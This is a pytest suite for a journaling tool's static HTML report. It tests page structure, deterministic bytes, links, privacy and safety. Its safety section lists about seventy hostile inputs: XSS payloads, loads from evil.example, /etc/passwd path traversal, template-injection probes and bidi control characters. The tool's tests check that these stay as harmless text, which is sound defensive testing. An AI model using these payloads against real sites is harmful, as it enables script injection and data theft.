"""The report: the right words in the right place, safe, valid, and the same bytes every time."""

import base64
import hashlib
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import replace
from functools import cache
from importlib import import_module
from pkgutil import iter_modules
from typing import Any
from xml.etree import ElementTree as ET

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from journal_tool import report, resources, rules
from journal_tool.analysis import analyse
from journal_tool.diagnostics import Diagnostic, at
from journal_tool.model import (
    Action,
    Day,
    Evidence,
    Journal,
    Measure,
    Pause,
    Rest,
    Smaller,
    State,
    Thought,
    Words,
)
from journal_tool.report import Page, pages
from journal_tool.settings import ReportRules, Settings
from journal_tool.text import SourceText
from tests.builders import (
    action,
    body,
    day,
    everywhere,
    four_weeks,
    journal,
    mood,
    on,
    sample_problems,
)

TODAY = "2026-03-23"
NO_WORDS = Settings(report=ReportRules(words=False))
TEMPLATES = resources.templates()
SERVED = "live.js"
"""The script of pages that are served, and of none that are written."""
SCRIPTS = sorted(name for name in TEMPLATES if name.endswith(".js") and name != SERVED)


def build(
    of: Journal,
    as_of: str = TODAY,
    options: Settings | None = None,
    problems: Sequence[Diagnostic] = (),
) -> dict[str, str]:
    """Return the text of every page by its path."""
    options = options or Settings()
    figures = analyse(of, options, as_of=on(as_of))
    made = pages(of, figures, options, TEMPLATES, problems, body)
    return {page.path: page.data.decode() for page in made}


def tree(page: str) -> ET.Element:
    """Return the elements of a page; raise at the first mistake in its HTML."""
    parser = html5lib.HTMLParser(
        html5lib.getTreeBuilder("etree"), strict=True, namespaceHTMLElements=False
    )
    found: ET.Element = parser.parse(page)
    for one in elements(found):
        one.tag = one.tag.removeprefix("{http://www.w3.org/2000/svg}")
    return found


def elements(root: ET.Element) -> Iterator[ET.Element]:
    """Return every element; comments and the like have a function for a tag."""
    return (one for one in root.iter() if isinstance(one.tag, str))


def text_of(page: str, inside: str = ".//main") -> str:
    """Return the words of a page as a reader sees them, blanks collapsed."""
    found = tree(page).find(inside)
    assert found is not None, inside
    return " ".join("".join(found.itertext()).split())


def section(page: str, anchor: str) -> str:
    """Return the words of one day."""
    return text_of(page, f".//section[@id='{anchor}']")


def small_report() -> dict[str, str]:
    return build(four_weeks(), problems=sample_problems())


# -- the whole of it ----------------------------------------------------------------------------


def test_the_small_report_is_as_it_was(golden: Callable[[str, Mapping[str, bytes]], None]) -> None:
    """Without the style sheet, which is no text to read in a difference."""
    made = small_report()
    for name in SCRIPTS:
        del made[name]  # they are the packed ones; see below
    style = made.pop("report.css")
    index = made["index.html"].replace(style, "/* report.css */")
    made["index.html"] = re.sub(r"sha256-[\w+/=]+", "sha256-...", index)

    golden("report_small", {path: text.encode() for path, text in made.items()})


def test_a_report_has_these_pages() -> None:
    assert list(small_report()) == [
        "index.html",
        "although.html",
        "consistency.html",
        "gap.html",
        "evidence.html",
        "mood.html",
        "dips.html",
        "thoughts.html",
        "practice/index.html",
        "practice/sit.html",
        "practice/to-the-lock.html",
        "review/index.html",
        "review/2026-W08.html",
        "review/2026-W09.html",
        "review/2026-W10.html",
        "review/2026-W11.html",
        "review/2026-W12.html",
        "review/2026-W13.html",
        "review/2026-02.html",
        "review/2026-03.html",
        "review/2026.html",
        "days/2026-02.html",
        "days/2026-03.html",
        "check.html",
        "about.html",
        "search.html",
        "search-data.js",
        "texts.js",
        "report.css",
        "theme.js",
        "keys.js",
        "date.js",
        "search.js",
    ]


def test_the_same_journal_on_the_same_date_gives_the_same_bytes() -> None:
    of = four_weeks()
    shuffled = replace(of, days=(*of.days[7:], *reversed(of.days[:7])))

    assert build(shuffled, problems=sample_problems()[::-1]) == small_report()


def test_a_month_that_is_over_does_not_change_from_day_to_day() -> None:
    """Else every build would send every page through the sync client."""
    today, tomorrow = (build(four_weeks(), date) for date in ("2026-03-23", "2026-03-24"))
    same = {path for path, text in tomorrow.items() if text == today[path]}

    assert {path for path in same if not path.endswith(".js")} == {
        "dips.html",
        "practice/sit.html",
        "practice/to-the-lock.html",
        "search.html",
        *(f"review/2026-W{at:02d}.html" for at in (8, 9, 10, 11, 12)),
        "review/2026-02.html",
        "practice/index.html",
        "days/2026-02.html",
        "check.html",
        "about.html",
        "report.css",
    }


def test_importing_the_report_loads_no_template_engine() -> None:
    program = "import sys, journal_tool.report; print('jinja2' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, check=True)

    assert done.stdout.strip() == b"False"
    assert done.stderr == b""


def test_every_link_leads_to_a_page_and_a_place_in_it() -> None:
    made = small_report()
    places = {
        path: {one.get("id") for one in elements(tree(text))}
        for path, text in made.items()
        if path.endswith(".html")
    }
    count = 0
    for path in places:
        for link in elements(tree(made[path])):
            href = link.get("href", "data:")
            if not href.startswith("data:"):
                folder = path.rpartition("/")[0]
                target, _, anchor = href.partition("#")
                target = re.sub(r"^\w+/\.\./", "", f"{folder}/{target}".lstrip("/"))
                count += 1

                assert (target if "#" not in href or href[0] != "#" else path) in made
                assert not anchor or anchor in places[path if href[0] == "#" else target]

    assert count > 60


# -- a day --------------------------------------------------------------------------------------


def shown(one: Day, options: Settings | None = None, as_of: str = TODAY) -> str:
    """Return the words of ``one`` on the page of its month."""
    made = build(journal(one), as_of, options)
    return section(made[f"days/{one.date:%Y-%m}.html"], f"d{one.date:%d}")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param("[x] Walk 20m", "✓ Walk 20m done", id="done"),
        pytest.param("[/] Gym 60m", "◐ Gym 1h smaller version", id="smaller"),
        pytest.param("[ ] Walk", "○ Walk not done", id="not done"),
        pytest.param("[>] Walk", "→ Walk put off", id="put off"),
        pytest.param("[-] Walk 90m", "– Walk 1h30m let go", id="let go"),
    ],
)
def test_a_state_is_a_sign_and_words(line: str, expected: str) -> None:
    assert expected in shown(day("2026-03-14", planned=[line]))


def test_other_states_are_signs_and_words_too() -> None:
    assert "+ Cook done though not planned" in shown(day("2026-03-14", done=["Cook"]))
    assert "○ Walk open" in shown(day(TODAY, planned=["Walk"]))
    unclear = action("[ ] Walk", planned=False)
    assert "? Walk not ticked, in no count" in shown(day("2026-03-14", done=[unclear]))


def test_an_action_shows_all_that_its_line_says() -> None:
    full = Action(
        "Gym",
        "gym",
        State.SMALLER,
        minutes=60,
        smaller=Smaller("walk", 5),
        anyway=True,
        doubt=True,
        likely=25,
        before=2,
        after=5,
        expect=1,
        felt=4,
        mastery=3,
        size=2,
        cue="after lunch",
        note="cold\nfine at the corner",
        tags=("body", "first"),
    )

    assert (
        "◐ Gym 1h smaller version small: walk 5m (after lunch) anyway doubted likely 25 in 100 "
        "2 before, 5 after expected 1, felt 4 mastery 3 #body #first "
        "cold fine at the corner"
    ) in shown(day("2026-03-14", planned=[full]))


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        pytest.param({"before": 0}, "0 before", id="nought is a number"),
        pytest.param({"felt": 4}, "felt 4", id="felt alone"),
        pytest.param({"likely": 0}, "likely 0 in 100", id="no chance"),
        pytest.param({"minutes": 0}, "Walk 0m", id="no time"),
    ],
)
def test_a_part_of_a_pair_and_nought_are_shown(more: dict[str, Any], expected: str) -> None:
    assert expected in shown(day("2026-03-14", planned=[action("[x] Walk", **more)]))


def test_a_thought_stands_with_the_action_that_answers_it() -> None:
    answer = action("[x] Shoes on 2m", key="shoes")
    thought = Thought("I'll do it later", "put-off", "later is now", "shoes")
    alone = Thought("Too much", None, None, None)

    assert "I'll do it later #put-off later is now → Shoes on done Too much" in shown(
        day("2026-03-14", planned=[answer], thoughts=(thought, alone))
    )


def test_a_day_shows_its_numbers_rest_evidence_tags_and_file() -> None:
    page = shown(
        day(
            "2026-03-14",
            rest=Rest("at Mam's"),
            measures=(
                Measure("mood", 6.0, "tired"),
                Measure("sleep", 7.5),
                Measure("mood_am", 4.0),
                Measure("energy", None, "gone"),
                Measure("who5", None),
                Measure("weight", None, ""),
            ),
            conflicts=("who5",),
            evidence=(
                Evidence("Went in with the case", "player", supports=True),
                Evidence("Let it ring", "answers", supports=False),
            ),
            tags=("harbour",),
        )
    )

    assert page == (
        "Saturday 14 Day of rest: at Mam's "
        "For #player Went in with the case Against #answers Let it ring "
        "mood 6 tired sleep 7.5 mood in the morning 4 energy: gone "
        "who5: two values, in no figure until one is chosen #harbour 2026-03-14.md"
    )


def test_two_files_of_a_day_each_keep_their_name() -> None:
    both = (Words("2026-03-14.md", "Morning.", 1), Words("2026-03-14 more.md", "Evening.", 1))
    page = shown(day("2026-03-14", words=both, files=tuple(one.path for one in both)))

    assert "2026-03-14.md Morning. 2026-03-14 more.md Evening." in page


def test_a_pause_is_a_day_of_rest_with_its_own_entry() -> None:
    options = Settings(pauses=(Pause(on("2026-03-13"), on("2026-03-15")),))
    page = shown(day("2026-03-14", planned=["Walk"], words="Train."), options)

    assert page == "Saturday 14 Day of rest – Walk let go Train. 2026-03-14.md"


def test_what_the_page_says_of_today_and_of_days_to_come() -> None:
    assert "Today is open." in shown(day(TODAY, planned=["Walk"]))
    assert "Still to come, in no count yet." in shown(day("2026-03-25", planned=["Walk"]))


def test_an_untouched_file_and_empty_words_have_no_place() -> None:
    made = build(
        journal(
            day("2026-03-13", planned=["Walk"], is_touched=False, is_recorded=False),
            day("2026-03-14", planned=["Walk"], words=(Words("x.md", " \n", 1),)),
        )
    )
    page = made["days/2026-03.html"]

    assert "d13" not in page
    assert "words" not in page


def three_months() -> dict[str, str]:
    months = ("2025-11", "2026-02", "2026-03")
    return build(journal(*(day(f"{month}-14", planned=["Walk"]) for month in months)))


def test_a_month_leads_to_every_other_one_by_year() -> None:
    made = three_months()

    assert text_of(made["days/2026-02.html"], ".//nav[@class='months']") == (
        "2026 Feb Mar Other years 2025 Nov"
    )
    assert text_of(made["days/2025-11.html"], ".//nav[@class='months']") == (
        "2025 Nov Other years 2026 Feb Mar"
    )
    assert [
        one.get("aria-current")
        for one in tree(made["days/2026-02.html"]).findall(".//nav[@class='months']//a")
    ] == ["page", None, None]


def test_the_only_month_leads_to_no_other() -> None:
    made = build(journal(day("2026-03-14", planned=["Walk"])))

    assert "Months of all years" not in made["days/2026-03.html"]


def test_the_navigation_leads_to_the_newest_days_and_marks_where_one_is() -> None:
    made = three_months()
    found = {
        path: [
            (one.get("href"), one.get("aria-current"))
            for one in tree(made[path]).findall(".//header//a")
            if "2026-03" in one.get("href", "")
        ]
        for path in ("index.html", "days/2026-03.html", "days/2026-02.html")
    }

    assert found == {
        "index.html": [("days/2026-03.html", None)],
        "days/2026-03.html": [("../days/2026-03.html", "page")],
        "days/2026-02.html": [("../days/2026-03.html", "true")],
    }


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        pytest.param("# Saturday\n\nRain.", "Rain.", id="its weekday"),
        pytest.param("\n## 2026-03-14 ##\nRain.", "Rain.", id="its date"),
        pytest.param("# saturday 14 march\nRain.", "Rain.", id="in words"),
        pytest.param("# Sunday\n\nRain.", "# Sunday Rain.", id="another weekday stays"),
        pytest.param("# Saturday, rain\n", "# Saturday, rain", id="more words stay"),
        pytest.param("Rain.\n# Saturday", "Rain. # Saturday", id="further down it stays"),
    ],
)
def test_a_heading_that_is_the_date_is_not_shown_twice(words: str, expected: str) -> None:
    assert shown(day("2026-03-14", done=["A"], words=words)).endswith(
        f"planned {expected} 2026-03-14.md"
    )


def test_months_know_the_months_beside_them() -> None:
    made = three_months()
    links = {
        path: [
            (one.get("rel"), one.get("href"), "".join(one.itertext()))
            for one in elements(tree(text))
            if one.get("rel") in ("prev", "next")
        ][:2]
        for path, text in made.items()
        if path.startswith("days/")
    }

    assert links == {
        "days/2025-11.html": [("next", "2026-02.html", "February 2026 →")] * 2,
        "days/2026-02.html": [
            ("prev", "2025-11.html", "← November 2025"),
            ("next", "2026-03.html", "March 2026 →"),
        ],
        "days/2026-03.html": [("prev", "2026-02.html", "← February 2026")] * 2,
    }


# -- the calendar -------------------------------------------------------------------------------


def cells(made: Mapping[str, str], month: str) -> dict[int, tuple[str, str]]:
    """Return class and words of each date of a calendar."""
    found = {}
    for cell in elements(tree(made[f"days/{month}.html"])):
        if cell.get("class") == "cell":
            number, mark, words = cell
            found[int(number.text or "")] = (mark.get("class", ""), words.text or "")
    return found


def test_every_state_of_a_day_has_its_own_shape_and_words() -> None:
    of = journal(
        day("2026-03-02", planned=["[x] A", "[/] B"]),
        day("2026-03-03", planned=["[x] A", "[ ] B"], done=["C"]),
        day("2026-03-04", planned=["[x] A", "[ ] B", "[ ] C"]),
        day("2026-03-05", planned=["[/] A", "[ ] B"]),
        day("2026-03-06", planned=["[ ] A"]),
        day("2026-03-07", planned=["[-] A"]),
        day("2026-03-08", rest="ill"),
        day("2026-03-09", words="Rain."),
        day("2026-03-11", planned=["A"]),
        day("2026-03-12", planned=["A"]),
    )
    found = cells(build(of, "2026-03-11"), "2026-03")

    assert [found[at] for at in range(1, 13)] == [
        ("mark mark-future", "1 March: before the first entry"),
        ("mark mark-all", "2 March: 2 of 2 planned done"),
        ("mark mark-most has-dot", "3 March: 1 of 2 planned done, 1 done though not planned"),
        ("mark mark-part", "4 March: 1 of 3 planned done"),
        ("mark mark-smaller", "5 March: 1 of 2 planned done"),
        ("mark mark-not-done", "6 March: 0 of 1 planned done"),
        ("mark mark-let-go", "7 March: let go"),
        ("mark mark-rest", "8 March: rest"),
        ("mark mark-no-plan", "9 March: something written, no plan"),
        ("mark mark-no-entry", "10 March: no entry"),
        ("mark mark-open", "11 March: today, open"),
        ("mark mark-future", "12 March: still to come"),
    ]


def test_every_shape_is_drawn_by_the_style_sheet_and_told_in_about() -> None:
    made = small_report()
    about = {
        one.get("class", "").split()[1]
        for one in elements(tree(made["about.html"]))
        if one.get("class", "").startswith("mark ")
    }
    drawn = set(re.findall(r"\.(mark-[\w-]+)", made["report.css"]))

    assert about == drawn
    assert len(drawn) == 11


def test_a_week_begins_where_the_settings_say() -> None:
    made = build(four_weeks(), options=Settings(week_starts=7))["days/2026-03.html"]
    heads = [one.get("title") for one in tree(made).iter("abbr")]

    assert (heads[0], heads[-1]) == ("Sunday", "Saturday")


# -- what was found -----------------------------------------------------------------------------


def test_problems_stand_worst_first_with_place_line_carets_advice_and_code() -> None:
    page = text_of(small_report()["check.html"])

    assert page.startswith(
        "To mend 16 files read. What follows stays in its file, as it was written. "
        "Left out of the report The rest of the journal is in. "
        "2026-03-11.md J102 the file is UTF-16 and could not be read "
        "Save it as UTF-8. journal explain J102 "
        "Worth a look The rest of each day is in. "
        "2026-03-12.md:2:7 J201 mood: 11 is outside 0-10 mood: 11 ^^ "
        "Correct the number. journal explain J201 "
        "2026-03-12.md:3:1 J208 'planed' is no key planed: | ^^^^^^ meant 'planned'? "
    )
    assert page.index("For information") < page.index("'therapy' is no number")


def test_carets_stand_below_their_place() -> None:
    (pre, *_) = tree(small_report()["check.html"]).iter("pre")

    assert "".join(pre.itertext()) == "mood: 11\n      ^^"


def test_a_problem_links_to_its_day_if_that_has_a_place() -> None:
    hrefs = [
        one[0].get("href")
        for one in elements(tree(small_report()["check.html"]))
        if one.get("class") == "place"
    ]

    assert hrefs == [None, *["days/2026-03.html#d12"] * 3]


def test_information_alone_asks_for_nothing() -> None:
    made = build(four_weeks(), problems=sample_problems()[-1:])

    assert "To mend" not in made["index.html"]
    assert "'therapy' is no number" in text_of(made["check.html"])


def test_without_problems_the_page_says_so() -> None:
    assert text_of(build(four_weeks())["check.html"]) == "To mend Nothing to mend. 16 files read."


# -- about --------------------------------------------------------------------------------------


def test_the_safety_text_is_always_the_same() -> None:
    bad_month = journal(*(day(f"2026-03-{at:02d}", planned=["[ ] A"]) for at in range(1, 20)))

    about = text_of(build(bad_month)["about.html"])

    assert about == text_of(build(four_weeks())["about.html"])
    assert "It does not diagnose, and nobody is watching it." in about
    assert "Samaritans 116 123" in about


def test_ones_own_people_take_the_place_of_the_crisis_lines() -> None:
    about = text_of(build(four_weeks(), options=Settings(support=("Sam, 555-0100",)))["about.html"])

    assert "Sam, 555-0100" in about
    assert "Samaritans" not in about
    assert "contact your local emergency number now" in about


def test_every_number_of_the_tables_is_explained() -> None:
    made = small_report()
    heads = {
        "".join(one.itertext())
        for path in ("although.html", "gap.html")
        for one in tree(made[path]).findall(".//thead/tr/th[@scope='col']")
    }
    terms = {one.text for one in tree(made["about.html"]).iter("dt")}

    assert heads
    assert heads <= terms


# -- words --------------------------------------------------------------------------------------

PRIVATE = "therapy at four"


def private_day() -> Day:
    full = action("[x] Walk", note=PRIVATE, cue=PRIVATE, thought=PRIVATE, tags=("body",))
    return day(
        "2026-03-14",
        planned=[full],
        rest=Rest(PRIVATE),
        thoughts=(Thought(PRIVATE, "put-off", PRIVATE, "walk"),),
        evidence=(Evidence(PRIVATE, "player", supports=True),),
        measures=mood(3, PRIVATE),
        words=PRIVATE,
        files=("2026-03-14.md", f"2026-03-14 {PRIVATE}.md"),
    )


def test_without_words_names_and_numbers_stay_and_free_text_goes() -> None:
    line = SourceText("2026-03-14.md", f"mood: {PRIVATE}\n")
    problem = at(rules.OUT_OF_RANGE, line, line.span(6, 13), f"{PRIVATE} is no number", PRIVATE)
    today = replace(private_day(), date=on(TODAY))
    with_words = build(journal(private_day(), today), problems=[problem])
    without = build(journal(private_day(), today), options=NO_WORDS, problems=[problem])

    assert sum(PRIVATE in text for text in with_words.values()) == 9
    assert not any(PRIVATE in text for text in without.values())
    assert section(without["days/2026-03.html"], "d14") == (
        "Saturday 14 Day of rest ✓ Walk done #body A thought #put-off → Walk done "
        "For #player mood 3"
    )
    assert "Words are left out" in text_of(without["days/2026-03.html"])
    assert "J201 out of range Correct the number." in text_of(without["check.html"])


FORBIDDEN = re.compile(
    r"\b(proves|causes?|caused|fixed|cured|fail(ed|s|ure)?|lazy|broken|lost|perfect|only|should|"
    r"relapse|missed|streak|lapse|slip)\b|!",
    re.IGNORECASE,
)


@pytest.mark.parametrize("as_of", ["2026-02-18", TODAY, "2026-06-01"])
@pytest.mark.parametrize("options", [Settings(), Settings(since=on("2026-03-05")), NO_WORDS])
def test_the_sentences_are_about_the_record_and_never_about_the_person(
    as_of: str, options: Settings
) -> None:
    plain = journal(*(replace(one, words=()) for one in four_weeks().days))
    for path, page in build(plain, as_of, options).items():
        if path.endswith(".html"):
            assert FORBIDDEN.findall(text_of(page, ".//body")) == [], path


# -- safety -------------------------------------------------------------------------------------

ELEMENTS = """
a abbr article body caption circle code dd details div dl dt figure footer form h1 h2 h3 h4 head
header html input label li link main meta nav noscript ol p polyline pre q rect script section
span style summary svg table tbody td text th thead time title tr ul
"""
ATTRIBUTES = """
aria-current aria-hidden aria-label autocapitalize autocomplete charset class colspan content cx
cy data-dated data-day-ends data-files datetime defer dir enterkeyhint focusable for height hidden
href
http-equiv id lang name points preserveAspectRatio r rel role scope spellcheck src stroke-width
tabindex text-anchor title type viewBox width x y
"""
HREF = re.compile(
    r"(data:,|((\.\./)?[a-z]+\.(html|css)|(\.\./)?days/\d{4}-\d\d\.html|\d{4}-\d\d\.html"
    r"|(\.\./)?(practice/|review/)?[a-z0-9-]+\.html|(review/)?\d{4}-W\d\d\.html)?(#\w+)?)$"
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " onfocus=alert(1) autofocus tabindex=1",
    '" style="background:url(//evil.example)"',
    '" href="javascript:alert(1)',
    '#" onclick="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/p.gif",
    "../../../etc/passwd",
    "file:///etc/passwd",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "</p></section></main></body></html><h1>",
    "</td></tr></table><h1>",
    "</pre></article>",
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "{{ self.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;&copy;&notit;&",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link",
    "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u200e\u061c",
    "\ufeff\u200b\u200d\u2028\u2029\x85",
    "\ud800 \udfff \ufffe \U0001ffff \ufdd0",
    "x" * 500,
    "Z" + "\u0351\u036b\u0343" * 60,
    "👩‍👩‍👧‍👦 🏃🏽‍♀️ 🇺🇦",
    "اذهب للمشي في الحديقة 20 دقيقة",
    "a\r\nb\rc\n\nd",
    "   \t  ",
    "-->\n]]>\n*/ } </svg>",
]


def assert_harmless(made: Mapping[str, str]) -> None:
    """No element, attribute or address that our own templates do not write."""
    for path, page in made.items():
        if path.endswith(".html"):
            for one in elements(tree(page)):
                assert one.tag in ELEMENTS.split(), (path, one.tag)
                assert set(one.attrib) <= set(ATTRIBUTES.split()), (path, one.attrib)
                assert HREF.match(one.get("href", "")), (path, one.get("href"))
                assert one.tag != "script" or not one.text, path
                assert one.get("src", "theme.js").removeprefix("../") in {*SCRIPTS, "texts.js"}, (
                    path
                )


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), 9))
def test_text_of_any_kind_in_any_field_stays_text(first: int) -> None:
    """Nine at a time; each alone in `make torture` (R14)."""
    of, options, problems = everywhere(" ".join(PAYLOADS[first : first + 9]))

    assert_harmless(build(of, TODAY, options, problems))


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@settings(max_examples=8, deadline=None)
@given(st.text(st.characters(exclude_categories=()), max_size=30))
def test_any_text_in_any_field_gives_valid_html(text: str) -> None:
    of, options, problems = everywhere(text)

    assert_harmless(build(of, TODAY, options, problems))


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        pytest.param("<b>Walk</b> & {{ run }}", "<b>Walk</b> & {{ run }}", id="markup is text"),
        pytest.param("a\x00b\x1bc\x85d", "a\ufffdb\ufffdc\ufffdd", id="controls are visible"),
        pytest.param("a\u202eb\u2066c", "a\ufffdb\ufffdc", id="overrides are visible"),
        pytest.param("\u200fא\u200e 👩\u200d👧", "\u200fא\u200e 👩\u200d👧", id="joiners stay"),
        pytest.param("a\ud800b", "a\ufffdb", id="half a character"),
    ],
)
def test_a_name_is_shown_as_it_was_written(written: str, expected: str) -> None:
    made = build(journal(day("2026-03-14", planned=[replace(action("[x] A"), name=written)])))
    names = [
        one.text for one in elements(tree(made["days/2026-03.html"])) if one.get("class") == "name"
    ]

    assert names == [expected]


def test_no_sign_that_a_page_cannot_show_is_left_out_in_silence() -> None:
    codes = [
        *(code for code in range(0xA0) if unicodedata.category(chr(code)) == "Cc"),
        *(*range(0x202A, 0x202F), *range(0x2066, 0x206A)),  # they turn what stands beside them
        *range(0xD800, 0xE000, 0xFF),  # halves of a character
        *range(0xFDD0, 0xFDF0),  # no characters, as the last two of each plane
        *(plane << 16 | low for plane in range(17) for low in (0xFFFE, 0xFFFF)),
    ]
    signs = [chr(code) for code in codes if chr(code) not in "\t\n\r"]
    planned = [replace(action("[x] A"), name=f"a{sign}b") for sign in signs]
    page = build(journal(day("2026-03-14", planned=planned)))["days/2026-03.html"]

    names = [one.text for one in elements(tree(page)) if one.get("class") == "name"]
    assert names == ["a\ufffdb"] * len(signs)


def test_the_writers_text_has_its_own_direction() -> None:
    """Except in the paragraphs of a body, which the style sheet turns one by one."""
    of, options, problems = everywhere("wörter")
    for path, page in build(of, TODAY, options, problems).items():
        if path.endswith(".html"):
            bare = [
                (path, one.tag, one.get("class"))
                for one in elements(tree(page))
                if (one.text or "").strip() in ("wörter", "#wörter", "(wörter)")
                if one.get("dir") is None and (one.tag, one.get("class")) != ("p", None)
            ]

            assert bare == []


def test_nothing_is_loaded_and_nothing_runs() -> None:
    of, options, problems = everywhere("https://evil.example/")
    made = build(of, TODAY, options, problems)
    policies = {}
    for path, page in made.items():
        if path.endswith(".html"):
            metas = {one.get("http-equiv"): one.get("content") for one in tree(page).iter("meta")}
            policies[path] = metas["Content-Security-Policy"]
            assert page.index("Content-Security-Policy") < page.index("<title>")

    rest = "script-src 'self'; img-src 'self' data:; base-uri 'none'; form-action 'none'"
    style = tree(made["index.html"]).find(".//style")
    assert style is not None
    digest = base64.b64encode(hashlib.sha256((style.text or "").encode()).digest()).decode()
    assert policies.pop("index.html") == (
        f"default-src 'none'; style-src 'sha256-{digest}'; {rest}"
    )
    assert set(policies.values()) == {f"default-src 'none'; style-src 'self'; {rest}"}


def test_the_first_page_holds_its_style_and_the_others_link_it() -> None:
    made = small_report()
    style = tree(made["index.html"]).find(".//style")
    assert style is not None

    assert style.text == made["report.css"] == TEMPLATES["report.css"]
    links = {
        path: [one.get("href") for one in tree(page).iter("link") if one.get("rel") == "stylesheet"]
        for path, page in made.items()
        if path.endswith(".html")
    }
    assert links == {
        "index.html": [],
        "although.html": ["report.css"],
        "consistency.html": ["report.css"],
        "mood.html": ["report.css"],
        "dips.html": ["report.css"],
        "thoughts.html": ["report.css"],
        "gap.html": ["report.css"],
        "evidence.html": ["report.css"],
        "practice/index.html": ["../report.css"],
        "practice/sit.html": ["../report.css"],
        "practice/to-the-lock.html": ["../report.css"],
        **{path: ["../report.css"] for path in made if path.startswith("review/")},
        "days/2026-02.html": ["../report.css"],
        "days/2026-03.html": ["../report.css"],
        "check.html": ["report.css"],
        "about.html": ["report.css"],
        "search.html": ["report.css"],
    }


# -- the templates themselves -------------------------------------------------------------------

HTML_TEMPLATES = sorted(name for name in TEMPLATES if name.endswith(".html.j2"))


@cache
def view_names() -> set[str]:
    """Return the names of the values that templates may show."""
    modules = (f"{report.__name__}.{one.name}" for one in iter_modules(report.__path__))
    return {name for module in modules for name in vars(import_module(module))}


def test_safe_html_and_the_style_sheet_stand_unescaped_and_no_more() -> None:
    unescaped = [
        (name, found)
        for name in HTML_TEMPLATES
        for found in re.findall(r"\{\{-? *([^{}]*?) *\| *safe", TEMPLATES[name])
    ]

    assert unescaped == [
        ("_day.html.j2", "body.html"),
        ("base.html.j2", "frame.style"),
        ("sheet.html.j2", "frame.style"),
        ("single.html.j2", "view.style"),
        ("single.html.j2", "part.html"),
    ]
    assert not any(
        word in TEMPLATES[name]
        for name in HTML_TEMPLATES
        for word in ("autoescape", "Markup", "style=", "<script", " on")
        if word != " on" or re.search(r"\son\w+=", TEMPLATES[name])
        if word != "<script"
        or re.search(r'<script(?! src="[^"<>]+\.js"( defer)?></script>)', TEMPLATES[name])
    )


@pytest.mark.parametrize("name", HTML_TEMPLATES)
def test_a_template_begins_with_what_it_shows(name: str) -> None:
    found = re.match(r"\{# \w+: ([\w ,:.()]+) #\}\n", TEMPLATES[name])
    assert found is not None

    assert set(re.findall(r"[A-Z]\w+", found[1])) <= view_names()


def test_the_style_sheet_loads_nothing_and_can_stand_in_a_page() -> None:
    style = TEMPLATES["report.css"]

    assert not re.search(r"url\(|@import|</|<!--|\r", style)


def test_a_page_says_nothing_of_its_bytes_when_printed() -> None:
    """A page of 200 kB in a failing test hides what failed."""
    assert repr(Page("index.html", b"x" * 999)) == "Page(path='index.html')"
